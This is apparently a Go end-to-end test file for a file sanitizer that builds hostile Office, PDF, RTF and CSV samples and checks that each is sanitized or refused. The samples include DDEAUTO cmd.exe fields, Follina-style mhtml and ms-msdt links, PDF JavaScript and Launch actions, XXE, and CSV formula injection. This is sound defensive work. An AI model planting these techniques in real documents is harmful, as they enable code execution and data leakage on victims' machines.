package e2e

import (
	"bytes"
	"strings"
	"testing"
)

const (
	relsNS    = `http://schemas.openxmlformats.org/package/2006/relationships`
	relBase   = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	wNS       = `http://schemas.openxmlformats.org/wordprocessingml/2006/main`
	ctPackage = `http://schemas.openxmlformats.org/package/2006/content-types`
)

// docx builds a Word package whose document body is body, with extra relationships of the
// main part, extra content-type lines and extra parts.
func docx(t testing.TB, body, rels, types string, parts ...zipEntry) []byte {
	t.Helper()
	p := []zipEntry{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="` + ctPackage + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` + types + `</Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="word/document.xml"/></Relationships>`},
		{"word/document.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="` + wNS + `" xmlns:r="` + relBase[:len(relBase)-1] + `"><w:body>` + body + `</w:body></w:document>`},
		{"word/_rels/document.xml.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="` + relsNS + `">` + rels + `</Relationships>`},
	}
	return mkzip(t, append(p, parts...)...)
}

func para(s string) string { return `<w:p><w:r><w:t>` + s + `</w:t></w:r></w:p>` }

// TestActiveContentOOXML: each hostile Word package is delivered without the feature, or
// refused; reparse checks the output with the standard library's zip reader and markup
// patterns, not the ooxml family's own parser.
func TestActiveContentOOXML(t *testing.T) {
	ext := func(typ, target string) string {
		return `<Relationship Id="rId9" Type="` + relBase + typ + `" Target="` + target + `" TargetMode="External"/>`
	}
	settingsCT := `<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`
	settingsRel := `<Relationship Id="rId5" Type="` + relBase + `settings" Target="settings.xml"/>`
	cases := []advCase{
		{"ooxml/dde-instrtext", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "delivered", ""},
		{"ooxml/dde-split-across-runs", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO "c:\\windows\\system32\\cmd.exe" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "delivered", ""},
		{"ooxml/dde-fldsimple", "a.docx", "", docx(t, `<w:p><w:fldSimple w:instr="DDE &quot;cmd&quot; &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, "", ""), "delivered", ""},
		{"ooxml/includepicture-remote", "a.docx", "", docx(t, `<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://example.invalid/p.png&quot; \d"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`, "", ""), "delivered", ""},
		{"ooxml/remote-template", "a.docx", "", docx(t, para("x"), settingsRel, settingsCT,
			zipEntry{"word/settings.xml", `<?xml version="1.0"?><w:settings xmlns:w="` + wNS + `" xmlns:r="` + relBase[:len(relBase)-1] + `"><w:attachedTemplate r:id="rId1"/></w:settings>`},
			zipEntry{"word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `attachedTemplate" Target="http://example.invalid/t.dotm" TargetMode="External"/></Relationships>`}), "delivered", ""},
		{"ooxml/follina-oleobject-mhtml", "a.docx", "", docx(t, para("x"), ext("oleObject", "mhtml:http://example.invalid/x.html!x-usc:http://example.invalid/x.html"), ""), "delivered", ""},
		{"ooxml/external-image", "a.docx", "", docx(t, para("x"), ext("image", "http://example.invalid/track.png"), ""), "delivered", ""},
		{"ooxml/hyperlink-unc", "a.docx", "", docx(t, `<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`, ext("hyperlink", `file://\\example.invalid\share\a.exe`), ""), "delivered", ""},
		{"ooxml/hyperlink-ms-msdt", "a.docx", "", docx(t, `<w:p><w:hyperlink r:id="rId9"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`, ext("hyperlink", `ms-msdt:/id PCWDiagnostic /skip force`), ""), "delivered", ""},
		{"ooxml/subdocument-remote", "a.docx", "", docx(t, `<w:p><w:subDoc r:id="rId9"/></w:p>`, ext("subDocument", "http://example.invalid/s.docx"), ""), "delivered", ""},
		{"ooxml/altchunk-html", "a.docx", "", docx(t, `<w:altChunk r:id="rId7"/>`, `<Relationship Id="rId7" Type="`+relBase+`aFChunk" Target="chunk.html"/>`, `<Default Extension="html" ContentType="text/html"/>`,
			zipEntry{"word/chunk.html", `<html><body><script>alert(1)</script><object classid="clsid:x"></object></body></html>`}), "delivered", ""},
		{"ooxml/vba-under-image-name", "a.docx", "", docx(t, para("x"), `<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image1.png"/>`, `<Default Extension="png" ContentType="image/png"/>`,
			zipEntry{"word/media/image1.png", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504)}), "delivered", ""},
		{"ooxml/macro-enabled-type-named-docx", "a.docx", "", mkzip(t,
			zipEntry{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="` + ctPackage + `"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`},
			zipEntry{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="word/document.xml"/></Relationships>`},
			zipEntry{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="` + wNS + `"><w:body>` + para("x") + `</w:body></w:document>`},
			zipEntry{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`},
			zipEntry{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504)}), "delivered", "a.docx"},
		{"ooxml/customui-callbacks", "a.docx", "", mkzip(t,
			zipEntry{"[Content_Types].xml", docxParts()[0].body},
			zipEntry{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + relBase + `officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility" Target="customUI/customUI14.xml"/></Relationships>`},
			docxParts()[2],
			zipEntry{"customUI/customUI14.xml", `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>`}), "delivered", ""},
		{"ooxml/activex-control", "a.docx", "", docx(t, `<w:p><w:r><w:object><w:control r:id="rId6" w:name="X"/></w:object></w:r></w:p>`, `<Relationship Id="rId6" Type="`+relBase+`control" Target="activeX/activeX1.xml"/>`, `<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>`,
			zipEntry{"word/activeX/activeX1.xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>`}), "delivered", ""},
		{"ooxml/embedded-exe-package", "a.docx", "", docx(t, para("x"), `<Relationship Id="rId6" Type="`+relBase+`package" Target="embeddings/a.exe"/>`, `<Default Extension="exe" ContentType="application/octet-stream"/>`,
			zipEntry{"word/embeddings/a.exe", "MZ\x90\x00" + strings.Repeat("\x00", 100)}), "delivered", ""},
		{"ooxml/unreferenced-exe-part", "a.docx", "", docx(t, para("x"), "", "", zipEntry{"word/a.exe", "MZ\x90\x00" + strings.Repeat("\x00", 100)}), "delivered", ""},
		{"ooxml/path-traversal-part", "a.docx", "", docx(t, para("x"), "", "", zipEntry{"../../evil.txt", "x"}), "safe", ""},
		{"ooxml/vml-imagedata-unc", "a.docx", "", docx(t, `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" style="width:1pt;height:1pt"><v:imagedata src="file://\\example.invalid\s\a.png" o:href="\\example.invalid\s\b.png"/></v:shape></w:pict></w:r></w:p>`, "", ""), "safe", ""},
		{"ooxml/ole-in-alternatecontent", "a.docx", "", docx(t, `<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w14"><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="htmlfile" r:id="rId9" UpdateMode="Always"/></w:object></w:r></mc:Choice><mc:Fallback><w:r><w:t>x</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>`, `<Relationship Id="rId9" Type="`+relBase+`oleObject" Target="http://example.invalid/x.html" TargetMode="External"/>`, ""), "safe", ""},
		{"ooxml/dde-in-header-part", "a.docx", "", docx(t, para("x"), `<Relationship Id="rId3" Type="`+relBase+`header" Target="header1.xml"/>`, `<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>`,
			zipEntry{"word/header1.xml", `<?xml version="1.0"?><w:hdr xmlns:w="` + wNS + `"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>`}), "safe", ""},
		{"ooxml/nested-field-includepicture", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "http://example.invalid/a.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "safe", ""},
		// DDEAUTO c:\windows\system32\cmd.exe "/k calc" spelled as character codes of a QUOTE
		// field nested in the instruction of the outer field, which Word evaluates first.
		{"ooxml/dde-nested-quote-char-codes", "a.docx", "", docx(t, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79 32 99 58 92 92 119 105 110 100 111 119 115 92 92 115 121 115 116 101 109 51 50 92 92 99 109 100 46 101 120 101 32 34 47 107 32 99 97 108 99 34</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", ""), "safe", ""},
		{"ooxml/xxe-in-document", "a.docx", "", mkzip(t, docxParts()[0], docxParts()[1],
			zipEntry{"word/document.xml", `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://example.invalid/x">]><w:document xmlns:w="` + wNS + `"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>`}), "safe", ""},
	}
	runCases(t, cases)
}

// TestActiveContentPDF adds spellings of active content that the pdf corpus does not
// have; qpdf expands the output and the names are searched in every spelling.
func TestActiveContentPDF(t *testing.T) {
	page := "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
	pages := "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
	cases := []advCase{
		{"pdf/hex-escaped-openaction", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>", pages, page, "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "sanitized", ""},
		{"pdf/js-as-stream", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 4 0 R >> >>", pages, page, "<< /Length 13 >>\nstream\napp.alert(1);\nendstream"), "sanitized", ""},
		{"pdf/page-aa", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R >>", pages, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /Launch /F (cmd.exe) >> >> >>"), "sanitized", ""},
		{"pdf/next-chain", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> >>", pages, page), "sanitized", ""},
		{"pdf/outline-action", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>", pages, page, "<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>", "<< /Title (x) /Parent 4 0 R /A << /S /Launch /Win << /F (cmd.exe) >> >> >>"), "sanitized", ""},
		{"pdf/annot-submitform", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R >>", pages, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (http://example.invalid/) >> >> >>"), "sanitized", ""},
		{"pdf/file-attachment-annot", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R >>", pages, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>", "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>", "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream"), "sanitized", ""},
		{"pdf/importdata-gotoe", "a.pdf", "", mkpdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /ImportData /F (x.fdf) /Next << /S /GoToE /T << /R /C /N (a) >> >> >> >>", pages, page), "sanitized", ""},
		{"pdf/junk-and-second-header", "a.pdf", "", append([]byte("%PDF-1.4\n%junk\n"+junk(300)+"\n"), pdfJS()...), "safe", ""},
		{"pdf/xref-generation-overflow", "a.pdf", "", xrefGen(pdfJS(), "80000"), "safe", ""},
		{"pdf/encrypted-no-password", "a.pdf", "", readFile(t, "pdf/bad-encrypted-empty-userpw.pdf"), refused, ""},
	}
	runCases(t, cases)
}

// TestActiveContentRTFAndCSV: embedded objects and DDE in RTF, formula injection in every
// spelling a spreadsheet accepts.
func TestActiveContentRTFAndCSV(t *testing.T) {
	cases := []advCase{
		{"rtf/object-objdata", "a.rtf", "", []byte(`{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}{\result x}}}`), "safe", ""},
		{"rtf/dde-field", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}{\fldrslt x}}}`), "safe", ""},
		{"rtf/includepicture", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst INCLUDEPICTURE "http://example.invalid/a.png" \\d}{\fldrslt x}}}`), "safe", ""},
		{"rtf/template", "a.rtf", "", []byte(`{\rtf1\ansi{\*\template http://example.invalid/t.dotm}x}`), "safe", ""},
		{"rtf/named-doc", "a.doc", "", []byte(`{\rtf1\ansi{\object\objemb{\*\objdata 01050000}}}`), "safe", ""},
		{"rtf/header-variant", "a.rtf", "", []byte(`{\rtf{\object\objemb{\*\objdata 01050000}}}`), "safe", ""},
		{"csv/formulas", "a.csv", "", []byte("=1+1,+cmd|' /c calc'!A0,-2+3,@SUM(1),\"=HYPERLINK(\"\"http://x\"\")\"\n\t=1,\r=2, =3\n"), "sanitized", ""},
		{"csv/formulas-fullwidth", "a.csv", "", []byte("＝1+1,＋1,－1+1,＠SUM(1)\n"), "safe", ""},
		{"csv/sjis-formula", "a.csv", "", []byte("\x83\x65\x83\x58\x83\x67,=cmd|' /c calc'!A0\n"), "sanitized", ""},
		{"csv/utf16-bom-formula", "a.csv", "", append([]byte{0xff, 0xfe}, utf16le("a,=cmd|' /c calc'!A0\r\n")...), "safe", ""},
		{"tsv/formula", "a.tsv", "", []byte("a\t=1+1\n"), "sanitized", ""},
		{"csv/sylk-header", "a.csv", "", []byte("ID;P\nC;Y1;X1;K0;E=cmd|' /c calc'!A0\nE\n"), "safe", ""},
	}
	runCases(t, cases)
}

// xrefGen sets the generation of the catalog's (first) xref entry to gen, as one flipped
// byte in a real file does.
func xrefGen(pdf []byte, gen string) []byte {
	i := bytes.Index(pdf, []byte("xref\n"))
	j := bytes.Index(pdf[i:], []byte(" 00000 n "))
	out := bytes.Clone(pdf)
	copy(out[i+j+1:], gen)
	return out
}
